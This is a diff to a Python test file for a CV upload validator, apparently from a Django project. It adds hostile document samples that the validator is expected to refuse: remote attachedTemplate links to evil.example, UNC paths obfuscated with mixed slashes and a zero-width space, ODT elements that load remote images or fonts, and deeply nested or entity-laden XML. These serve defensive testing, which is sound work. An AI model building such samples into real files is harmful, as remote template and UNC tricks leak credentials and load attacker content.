@@ -10,7 +10,7 @@ from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 
 from applications.cv_content import CALLS_OUT, HAS_MACROS, IS_LOCKED, WRONG_KIND, kind_of
-from applications.cv_parts import LARGEST_READ
+from applications.cv_parts import DEEPEST, LARGEST_READ
 from applications.enums import CvKind
 from tests.applications.conftest import archive
 from tests.hostile.patterns import grows_in_line
@@ -57,6 +57,9 @@ CALLING = (
     docx(relation("image", "https://evil.example/pixel.png"), "word/_rels/document.xml.rels"),
     docx(relation("oleObject", "mhtml:https://evil.example!x"), "word/_rels/footer1.xml.rels"),
     docx(relation("attachedTemplate", "https://evil.example/t.dotm"), "WORD/_RELS/Settings.XML.rels"),
+    docx(relation("attachedTemplate", "/\\host/share/t.dotm")),
+    docx(relation("attachedTemplate", "\\/host/share/t.dotm")),
+    docx(relation("attachedTemplate", "\u200b\\\\host\\share\\t.dotm")),
     docx("<!-- " + "x" * 2_100_000 + " -->" + relation("attachedTemplate", "http://evil.example/t")),
 )
 
@@ -73,7 +76,10 @@ def test_a_document_that_calls_out_is_refused(content: bytes) -> None:
 
 def test_an_odt_may_link_but_not_load() -> None:
     assert told(odt("<t:a x:href='https://example.org'>Mon site</t:a><d:image x:href='Pictures/1.png'/>")) == CvKind.ODT
-    assert told(odt("<d:image x:href='https://evil.example/1.png'/>")) == CALLS_OUT
+    for loaded in ("image", "background-image", "fill-image", "font-face-uri", "event-listener", "auto-reload"):
+        assert told(odt(f"<d:{loaded} x:href='https://evil.example/1'/>")) == CALLS_OUT, loaded
+    inside = {"mimetype": ODT, "content.xml": "<o/>", "Object 1/content.xml": "<i href='https://evil.example/1'/>"}
+    assert told(archive(inside)) == CALLS_OUT
     locked = {"mimetype": ODT, "content.xml": "<o/>", "META-INF/manifest.xml": "<m><encryption-data/></m>"}
     assert told(archive(locked)) == IS_LOCKED
 
@@ -86,7 +92,13 @@ def test_macros_are_told_in_any_encoding() -> None:
 
 @pytest.mark.parametrize(
     "relations",
-    ["<Rs", "<!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>", "<r>" + " " * LARGEST_READ + "</r>", "attachedTemplate" * 9],
+    [
+        "<Rs",
+        "<a>" * (DEEPEST + 1) + "</a>" * (DEEPEST + 1),
+        "<!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>",
+        "<r>" + " " * LARGEST_READ + "</r>",
+        "attachedTemplate" * 9,
+    ],
 )
 def test_what_is_no_plain_xml_is_not_a_cv(relations: str) -> None:
     assert told(docx(relations)) == WRONG_KIND
